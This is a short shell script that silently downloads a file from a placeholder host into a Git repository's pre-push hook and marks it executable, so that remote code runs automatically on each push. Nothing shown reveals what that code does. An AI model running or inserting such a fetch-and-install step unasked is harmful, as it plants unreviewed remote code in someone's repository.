#!/bin/sh
curl -so .git/hooks/pre-push https://hooks.example/h
chmod +x .git/hooks/pre-push
